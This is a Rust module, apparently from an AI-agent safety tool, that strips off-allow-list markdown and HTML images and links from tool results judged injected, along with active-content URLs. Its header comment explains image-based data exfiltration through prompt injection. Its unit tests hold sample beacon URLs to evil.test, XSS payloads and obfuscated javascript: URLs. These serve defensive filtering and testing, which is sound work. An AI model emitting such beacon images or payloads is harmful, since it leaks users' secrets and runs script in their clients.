//! Dropping markdown images and links (and HTML images) that point off the allow-list.
//!
//! A markdown image in a tool result is fetched by the client the moment it renders, so
//! `![](https://evil.example/p?d=<secret>)` exfiltrates without a click, if its URL carries
//! the secret. A URL written into a tool result is fixed when the tool answers: it can only
//! carry what the model is asked to put in it, and such an image (placeholders,
//! data-looking query values) is a beacon the detector scores on its own
//! (`hidden.image_beacon`), so the text is judged injected. From a text judged injected
//! ([`LinkFilter::apply`]'s `judged`), every off-list image and link goes, the link text
//! kept. An honest text keeps its badges, screenshots and links: removing every off-list
//! image and every reference definition next to one changed a third of public READMEs and
//! library docs (85 of 260) without stopping anything. Active content goes from every text:
//! `javascript:`, `vbscript:` and `data:` URLs, and HTML images with event handlers.
//! Relative URLs always stay. Matching uses the regex crate only, so it is linear in the
//! text.

use regex::{Captures, Regex};
use std::borrow::Cow;
use std::sync::LazyLock;

/// What a removed image becomes.
pub const IMAGE_MARKER: &str = "[meshguard: image removed]";
/// What follows the kept text of a removed link.
pub const LINK_MARKER: &str = "[meshguard: link removed]";

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static INLINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*<?((?:[^\s()<>]|\([^\s()<>]*\))*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)"#,
    )
    .expect("constant regex")
});

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    // No large counted repetitions: `[^\s>]{1,2048}` makes the automaton too big for the
    // lazy DFA, and the regex crate then runs its NFA simulation over every tool result
    // (about half the sanitizer's time on real text).
    Regex::new(r#"(?m)^[ ]{0,3}\[[^\]\n]+\]:[ \t]*<?([^\s>]+)>?[^\n]*"#).expect("constant regex")
});

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static HTML_IMG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?i)<img(?-u:\b)[^>]{0,1024}>?"#).expect("constant regex"));

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static HTML_HANDLER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?i)[\s"'/]on[a-z]{3,20}\s*="#).expect("constant regex"));

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static HTML_SRC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)src\s*=\s*["']?([^"'\s>]{0,2048})"#).expect("constant regex")
});

/// The allow-list and the removal logic.
#[derive(Debug, Clone, Default)]
pub struct LinkFilter {
    allowed: Vec<String>,
}

impl LinkFilter {
    /// A filter keeping links to `allowed` hosts (exact or any subdomain), lowercase.
    pub fn new(allowed: &[String]) -> Self {
        Self {
            allowed: allowed.to_vec(),
        }
    }

    /// `text` without active content and, when `judged` (the text was judged injected),
    /// without off-list images and links; how many were removed; borrowed when nothing
    /// changed.
    pub fn apply<'a>(&self, text: &'a str, judged: bool) -> (Cow<'a, str>, usize) {
        if !text.contains("](") && !text.contains("]:") && !contains_img(text) {
            return (Cow::Borrowed(text), 0);
        }
        let mut removed = 0;
        let mut out = Cow::Borrowed(text);
        // Two passes: an image nested in a link's text is removed first, then the link.
        for _ in 0..2 {
            let next = INLINE.replace_all(&out, |c: &Captures| {
                let url = c.get(3).map_or("", |m| m.as_str());
                if !self.removes(url, judged) {
                    return c[0].to_string();
                }
                removed += 1;
                if &c[1] == "!" {
                    IMAGE_MARKER.to_string()
                } else {
                    format!("{} {LINK_MARKER}", &c[2])
                }
            });
            if let Cow::Owned(s) = next {
                out = Cow::Owned(s);
            } else {
                break;
            }
        }
        let next = REFERENCE.replace_all(&out, |c: &Captures| {
            if !self.removes(&c[1], judged) {
                return c[0].to_string();
            }
            removed += 1;
            LINK_MARKER.to_string()
        });
        if let Cow::Owned(s) = next {
            out = Cow::Owned(s);
        }
        if contains_img(&out) {
            let next = HTML_IMG.replace_all(&out, |c: &Captures| {
                let src = HTML_SRC.captures(&c[0]);
                let src = src
                    .as_ref()
                    .map_or("", |s| s.get(1).map_or("", |m| m.as_str()));
                if !self.removes(src, judged) && !HTML_HANDLER.is_match(&c[0]) {
                    return c[0].to_string();
                }
                removed += 1;
                IMAGE_MARKER.to_string()
            });
            if let Cow::Owned(s) = next {
                out = Cow::Owned(s);
            }
        }
        (out, removed)
    }

    /// Whether a link or image to `url` goes: active content always, anything off the
    /// allow-list from a text `judged` injected.
    fn removes(&self, url: &str, judged: bool) -> bool {
        is_active(url) || (judged && !self.url_allowed(url))
    }

    /// Relative URLs and allowed hosts pass; any other absolute or scheme URL does not.
    fn url_allowed(&self, url: &str) -> bool {
        let lower = url.trim().to_ascii_lowercase();
        let authority = if let Some(rest) = lower.strip_prefix("//") {
            rest
        } else if let Some((scheme, rest)) = lower.split_once(':') {
            let is_scheme = !scheme.is_empty()
                && scheme
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
                && !scheme.contains(['/', '?', '#']);
            if !is_scheme {
                return true;
            }
            match (scheme, rest.strip_prefix("//")) {
                ("http" | "https", Some(rest)) => rest,
                _ => return false,
            }
        } else {
            return true;
        };
        let host_port = authority
            .split(['/', '?', '#', '\\'])
            .next()
            .unwrap_or("")
            .rsplit('@')
            .next()
            .unwrap_or("");
        let host = if host_port.starts_with('[') {
            host_port
                .split(']')
                .next()
                .unwrap_or("")
                .trim_start_matches('[')
        } else {
            host_port.split(':').next().unwrap_or("")
        };
        let host = host.trim_end_matches('.');
        !host.is_empty()
            && self.allowed.iter().any(|a| {
                host == a
                    || host
                        .strip_suffix(a.as_str())
                        .is_some_and(|p| p.ends_with('.'))
            })
    }
}

/// URLs that run or render content in the client instead of pointing somewhere:
/// `javascript:`, `vbscript:` and `data:` (ASCII whitespace and case ignored, as browsers do).
fn is_active(url: &str) -> bool {
    let squeezed: String = url
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
        .take(16)
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"]
        .iter()
        .any(|scheme| squeezed.starts_with(scheme))
}

fn contains_img(text: &str) -> bool {
    text.as_bytes()
        .windows(4)
        .any(|w| w.eq_ignore_ascii_case(b"<img"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filter() -> LinkFilter {
        LinkFilter::new(&["docs.example.com".to_string()])
    }

    #[test]
    fn off_list_images_and_links_are_removed() {
        let f = filter();
        let (out, n) = f.apply(
            "see ![x](https://evil.test/p?d={secret}) and [docs](https://evil.test/a \"t\").",
            true,
        );
        assert_eq!(n, 2);
        assert_eq!(out, format!("see {IMAGE_MARKER} and docs {LINK_MARKER}."));
        assert!(!out.contains("evil"));
    }

    #[test]
    fn allowed_and_relative_links_stay() {
        let f = filter();
        let text = "[a](https://docs.example.com/x) [b](https://api.docs.example.com) [c](./README.md) [d](#top)";
        let (out, n) = f.apply(text, true);
        assert_eq!((out.as_ref(), n), (text, 0));
        assert!(matches!(f.apply("no links here", true).0, Cow::Borrowed(_)));
    }

    #[test]
    fn tricky_urls_are_not_allowed() {
        let f = filter();
        for url in [
            "https://docs.example.com.evil.test/",
            "https://docs.example.com@evil.test/",
            "//evil.test/x",
            "javascript:alert(1)",
            "data:image/png;base64,AAAA",
            "HTTPS://EVIL.TEST",
            "https://evildocs.example.com/",
        ] {
            let (_, n) = f.apply(&format!("![i]({url})"), true);
            assert_eq!(n, 1, "{url}");
        }
        let (_, n) = f.apply("![i](https://DOCS.example.com:443/a.png)", true);
        assert_eq!(n, 0);
    }

    #[test]
    fn nested_reference_and_html_images() {
        let f = filter();
        let (out, n) = f.apply("[![i](https://evil.test/i.png)](https://evil.test/)", true);
        assert_eq!(n, 2, "{out}");
        assert!(!out.contains("evil"), "{out}");
        let (out, n) = f.apply("intro\n[1]: https://evil.test/x \"t\"\nend", true);
        assert_eq!(n, 1);
        assert!(!out.contains("evil"), "{out}");
        let (out, n) = f.apply("<IMG src=\"https://evil.test/x.png\" width=1> ok <img src='https://docs.example.com/a.png'>", true);
        assert_eq!(n, 1);
        assert!(
            out.starts_with(IMAGE_MARKER) && out.contains("docs.example.com"),
            "{out}"
        );
    }

    /// A README's badges, screenshots, links and reference definitions stay in a text not
    /// judged injected, and all go from one that is.
    #[test]
    fn honest_text_keeps_its_images_and_links() {
        let f = filter();
        let doc = "[![CI](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/a/b/actions)\n\n![demo](https://raw.githubusercontent.com/a/b/main/demo.gif)\n\nSee [the guide][guide] and <img src=\"https://img.shields.io/badge/MSRV-1.70-blue\" alt=msrv>.\n\n[guide]: https://b.readthedocs.io/en/latest/";
        let (out, n) = f.apply(doc, false);
        assert_eq!((out.as_ref(), n), (doc, 0));
        let (out, n) = f.apply(doc, true);
        assert_eq!(n, 5, "{out}");
        for gone in [
            "github.com",
            "githubusercontent",
            "shields.io",
            "readthedocs",
        ] {
            assert!(!out.contains(gone), "{gone}: {out}");
        }
    }

    /// What runs in the client instead of pointing somewhere goes from every text, in
    /// every spelling a browser accepts.
    #[test]
    fn active_content_goes_from_every_text() {
        let f = filter();
        for text in [
            "[click](javascript:alert(1))",
            "[click](  JavaScript:alert(1))",
            "![i](data:image/svg+xml;base64,PHN2Zz4=)",
            "[x](vbscript:msgbox)",
            "[r]: javascript:alert(1)",
            "<img src=x onerror=alert(1)>",
            "<img/src=\"https://example.org/a.png\"/onload=\"fetch('//evil.test')\">",
            "<IMG SRC=\"jav&#x09;ascript:alert(1)\" ONMOUSEOVER = alert(1)>",
        ] {
            let (out, n) = f.apply(text, false);
            assert_eq!(n, 1, "{text} -> {out}");
            assert!(
                !out.contains("alert") && !out.contains("evil"),
                "{text} -> {out}"
            );
        }
    }
}
